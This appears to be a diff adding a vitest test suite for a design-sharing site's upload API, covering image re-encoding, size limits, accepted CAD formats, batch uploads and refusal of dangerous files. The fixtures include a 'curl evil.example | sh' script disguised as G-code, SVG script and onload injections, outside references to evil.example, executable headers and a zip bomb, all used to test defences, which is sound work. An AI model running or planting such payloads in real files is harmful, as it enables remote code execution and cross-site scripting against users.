@@ -1,0 +1,289 @@
+import { ZBatchUploadResponse, ZUploadResponse } from '@layerline/contract';
+import { and, eq } from 'drizzle-orm';
+import sharp from 'sharp';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { files } from '../../db/schema';
+import { signIn } from '../../test/auth-helpers';
+import { binaryStl, ELF, MINIMAL_PDF } from '../../test/design-files';
+import { createUser } from '../../test/factories';
+import { createTestApp, type TTestApp } from '../../test/test-app';
+import { multipartBody, type TMultipartFile, uploadThroughApi } from '../../test/uploads';
+import { buildZip, zeros } from '../../test/zips';
+
+let t: TTestApp;
+let userId: number;
+let headers: Record<string, string>;
+
+beforeAll(async () => {
+  t = await createTestApp();
+  userId = (await createUser(t.db)).id;
+  headers = (await signIn(t, userId)).headers;
+});
+
+afterAll(async () => {
+  await t.close();
+});
+
+const upload = (kind: string, file: TMultipartFile, url?: string) =>
+  uploadThroughApi(t, headers, kind, file, url);
+const fetchStored = async (url: string) => (await t.app.inject({ method: 'GET', url })).rawPayload;
+const image = (width: number, height: number, channels: 3 | 4 = 3) =>
+  sharp({ create: { width, height, channels, background: { r: 40, g: 160, b: 90, alpha: 0.5 } } });
+
+describe('images: cover, ai, feedback', () => {
+  it('re-encodes a cover to WebP without metadata, with a 480px thumbnail, and records it', async () => {
+    const jpeg = await image(1600, 1200)
+      .jpeg()
+      .withMetadata({ orientation: 6, exif: { IFD0: { Copyright: 'gps-secret' } } })
+      .toBuffer();
+    const res = await upload('cover', { data: jpeg, name: 'My cover.JPG' });
+    expect(res.statusCode).toBe(200);
+    const { data } = ZUploadResponse.parse(res.json());
+    expect(data).toMatchObject({ filename: 'My cover.webp', mime: 'image/webp' });
+    const stored = await fetchStored(data.url);
+    const meta = await sharp(stored).metadata();
+    expect([meta.format, meta.width, meta.height, meta.exif]).toEqual([
+      'webp',
+      1200,
+      1600,
+      undefined,
+    ]);
+    expect(stored.includes(Buffer.from('gps-secret'))).toBe(false);
+    const thumb = await sharp(await fetchStored(data.thumbnail ?? '')).metadata();
+    expect([thumb.format, thumb.width]).toEqual(['webp', 480]);
+    const [row] = await t.db
+      .select()
+      .from(files)
+      .where(and(eq(files.userId, userId), eq(files.url, data.url)));
+    expect(row).toMatchObject({
+      kind: 'cover',
+      mime: 'image/webp',
+      size: data.size,
+      thumbnail: data.thumbnail,
+    });
+  });
+
+  it('keeps an AI source image lossless when it has transparency', async () => {
+    const png = await image(300, 200, 4).png().toBuffer();
+    const res = await upload('ai', { data: png, name: 'source.png' });
+    expect(res.json().data).toMatchObject({ filename: 'source.png', mime: 'image/png' });
+    const jpeg = await upload('ai', {
+      data: await image(300, 200).jpeg().toBuffer(),
+      name: 'a.jpeg',
+    });
+    expect(jpeg.json().data).toMatchObject({ filename: 'a.jpg', mime: 'image/jpeg' });
+  });
+
+  it('answers 413 over the kind’s limit (cover 10 MB, feedback 5 MB)', async () => {
+    const png = await image(4, 4).png().toBuffer();
+    const cover = await upload('cover', {
+      data: Buffer.concat([png, Buffer.alloc(10 * 1024 * 1024)]),
+      name: 'big.png',
+    });
+    expect(cover.statusCode).toBe(413);
+    expect(cover.json()).toEqual({
+      code: 413,
+      msg: 'The file is too large (at most 10 MB).',
+      data: null,
+    });
+    const feedback = await upload('feedback', {
+      data: Buffer.concat([png, Buffer.alloc(5 * 1024 * 1024)]),
+      name: 'f.png',
+    });
+    expect(feedback.json()).toMatchObject({
+      code: 413,
+      msg: 'The file is too large (at most 5 MB).',
+    });
+  });
+
+  it('refuses non-images and PDFs as covers', async () => {
+    for (const data of [MINIMAL_PDF, Buffer.from('not an image')]) {
+      const res = await upload('cover', { data, name: 'cover.png' });
+      expect(res.json()).toMatchObject({
+        code: 400,
+        msg: 'Only JPG, PNG, GIF or WebP images are allowed.',
+      });
+    }
+  });
+});
+
+describe('executables are refused whatever their name', () => {
+  it.each([
+    ['cover', 'photo.png', ELF],
+    ['design', 'bracket.stl', ELF],
+    ['instruction', 'manual.pdf', Buffer.concat([Buffer.from('MZ'), Buffer.alloc(300)])],
+    ['design', 'print.gcode', Buffer.from('#!/bin/sh\ncurl evil.example | sh\n')],
+    ['design', 'logo.svg', Buffer.from('<!doctype html><html><body onload="x()"></body></html>')],
+  ])('%s named %s', async (kind, name, data) => {
+    const res = await upload(kind, { data, name, type: 'image/png' });
+    expect(res.statusCode).toBe(400);
+    expect(res.json().msg).toBe('Executable files and scripts cannot be uploaded.');
+  });
+});
+
+describe('instruction and design files', () => {
+  it('accepts a PDF as instructions, and nothing else', async () => {
+    const res = await upload('instruction', { data: MINIMAL_PDF, name: '说明.pdf' });
+    expect(res.json().data).toMatchObject({
+      filename: '说明.pdf',
+      mime: 'application/pdf',
+      size: MINIMAL_PDF.length,
+    });
+    expect((await fetchStored(res.json().data.url)).equals(MINIMAL_PDF)).toBe(true);
+    const stl = await upload('instruction', { data: binaryStl(2), name: 'x.pdf' });
+    expect(stl.json()).toMatchObject({ code: 400, msg: 'Only PDF files are allowed.' });
+  });
+
+  it.each([
+    ['part.STL', binaryStl(12), 'part.stl', 'model/stl'],
+    ['ascii', Buffer.from('solid a\nfacet normal 0 0 1\nendsolid a\n'), 'ascii.stl', 'model/stl'],
+    ['mesh.obj', Buffer.from('o a\nv 0 0 0\nv 1 0 0\nv 0 1 0\nf 1 2 3\n'), 'mesh.obj', 'model/obj'],
+    ['body.stp', Buffer.from('ISO-10303-21;\nHEADER;\nENDSEC;\n'), 'body.stp', 'model/step'],
+    ['plate.gcode', Buffer.from('G28\nG1 X1 Y1\n'), 'plate.gcode', 'text/x-gcode'],
+    [
+      'sign.dxf',
+      Buffer.from('0\nSECTION\n2\nENTITIES\n0\nENDSEC\n0\nEOF\n'),
+      'sign.dxf',
+      'image/vnd.dxf',
+    ],
+    [
+      'job.lbrn2',
+      Buffer.from('<?xml version="1.0"?><LightBurnProject/>'),
+      'job.lbrn2',
+      'application/x-lightburn',
+    ],
+    [
+      'box.xcs',
+      Buffer.from('{"canvasId":"1","canvas":[],"device":{}}'),
+      'box.xcs',
+      'application/x-xcs+json',
+    ],
+    ['sheet.pdf', MINIMAL_PDF, 'sheet.pdf', 'application/pdf'],
+    ['wrongly named.zip', binaryStl(1), 'wrongly named.stl', 'model/stl'],
+  ])('accepts %s by its content', async (name, data, filename, mime) => {
+    const res = await upload('design', { data, name });
+    expect(res.statusCode).toBe(200);
+    expect(res.json().data).toMatchObject({ filename, mime, size: data.length });
+    expect((await fetchStored(res.json().data.url)).equals(data)).toBe(true);
+  });
+
+  it('accepts a .3mf that is a valid ZIP package, and a ZIP of files', async () => {
+    const model = await buildZip([
+      { name: '[Content_Types].xml', data: Buffer.from('<Types/>') },
+      {
+        name: '3D/3dmodel.model',
+        data: Buffer.from('<model unit="millimeter"><resources/></model>'),
+      },
+    ]);
+    const res = await upload('design', { data: model, name: 'Benchy.3mf' });
+    expect(res.json().data).toMatchObject({
+      filename: 'Benchy.3mf',
+      mime: 'model/3mf',
+      size: model.length,
+    });
+    const zip = await buildZip([{ name: 'parts/a.stl', data: binaryStl(3) }]);
+    const plain = await upload('design', { data: zip, name: 'kit.zip' });
+    expect(plain.json().data).toMatchObject({ filename: 'kit.zip', mime: 'application/zip' });
+  });
+
+  it('refuses a zip bomb (200 MB of zeros in about 200 KB)', async () => {
+    const bomb = await buildZip([{ name: 'zeros.stl', stream: () => zeros(200 * 1024 * 1024) }]);
+    expect(bomb.length).toBeLessThan(512 * 1024);
+    const res = await upload('design', { data: bomb, name: 'model.3mf' });
+    expect(res.statusCode).toBe(400);
+    expect(res.json().msg).toBe(
+      'The archive unpacks to far more data than it holds and was refused.',
+    );
+  });
+
+  it('stores an SVG sanitised: no script, no handlers, no outside references', async () => {
+    const svg = Buffer.from(
+      '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="alert(1)">' +
+        '<script>alert(2)</script><path id="cut" d="M0 0H10"/><use xlink:href="#cut"/>' +
+        '<image href="https://evil.example/pixel.png"/><a xlink:href="https://evil.example"><circle r="2"/></a></svg>',
+    );
+    const res = await upload('design', { data: svg, name: 'logo.svg' });
+    expect(res.json().data).toMatchObject({ filename: 'logo.svg', mime: 'image/svg+xml' });
+    const stored = (await fetchStored(res.json().data.url)).toString('utf8');
+    for (const banned of ['script', 'onload', 'evil.example']) expect(stored).not.toContain(banned);
+    expect(stored).toContain('<use xlink:href="#cut"/>');
+    expect(stored).toContain('<circle r="2"/>');
+    const served = await t.app.inject({ method: 'GET', url: res.json().data.url });
+    expect(served.headers['content-security-policy']).toContain('sandbox');
+    const broken = await upload('design', { data: Buffer.from('<svg><g></svg>'), name: 'b.svg' });
+    expect(broken.json()).toMatchObject({ code: 400, msg: 'The SVG file is not well-formed.' });
+  });
+
+  it('refuses unknown formats and images of the wrong kind', async () => {
+    const gif = await image(8, 8).gif().toBuffer();
+    for (const [data, name] of [
+      [Buffer.from('just some notes\n'), 'notes.stl'],
+      [gif, 'a.gif'],
+    ] as const) {
+      const res = await upload('design', { data, name });
+      expect(res.statusCode).toBe(400);
+      expect(res.json().msg).toMatch(/^This design file format is not supported/);
+    }
+  });
+});
+
+describe('the other upload paths', () => {
+  it('POST /upload_resource works like /resource/upload', async () => {
+    const res = await upload(
+      'design',
+      { data: binaryStl(1), name: 'a.stl' },
+      '/api/v1/upload_resource',
+    );
+    expect(res.json()).toMatchObject({ code: 200, data: { filename: 'a.stl' } });
+  });
+
+  it('POST /batch_upload takes many files in `files` and answers a list', async () => {
+    const png = await image(20, 20).png().toBuffer();
+    const body = await multipartBody({ kind: 'feedback' }, [
+      { field: 'files', data: png, name: 'one.png' },
+      { field: 'files', data: await image(30, 10).jpeg().toBuffer(), name: 'two.jpg' },
+    ]);
+    const res = await t.app.inject({
+      method: 'POST',
+      url: '/api/v1/batch_upload',
+      payload: body.payload,
+      headers: { ...body.headers, ...headers },
+    });
+    const list = ZBatchUploadResponse.parse(res.json()).data;
+    expect(list.map((item) => item.filename)).toEqual(['one.webp', 'two.webp']);
+    expect(list.every((item) => item.thumbnail)).toBe(true);
+  });
+
+  it('refuses more than 20 files in one batch, a batch without files, and visitors', async () => {
+    const png = await image(2, 2).png().toBuffer();
+    const many = await multipartBody(
+      { kind: 'cover' },
+      Array.from({ length: 21 }, (_, i) => ({ field: 'files', data: png, name: `${i}.png` })),
+    );
+    const res = await t.app.inject({
+      method: 'POST',
+      url: '/api/v1/batch_upload?kind=cover',
+      payload: many.payload,
+      headers: { ...many.headers, ...headers },
+    });
+    expect(res.json()).toMatchObject({
+      code: 413,
+      msg: 'Too many files in one upload (at most 20).',
+    });
+    const none = await multipartBody({ kind: 'cover' }, []);
+    const empty = await t.app.inject({
+      method: 'POST',
+      url: '/api/v1/batch_upload',
+      payload: none.payload,
+      headers: { ...none.headers, ...headers },
+    });
+    expect(empty.json()).toMatchObject({ code: 400, msg: 'Please choose a file to upload.' });
+    const visitor = await t.app.inject({
+      method: 'POST',
+      url: '/api/v1/batch_upload',
+      payload: none.payload,
+      headers: none.headers,
+    });
+    expect(visitor.statusCode).toBe(401);
+  });
+});
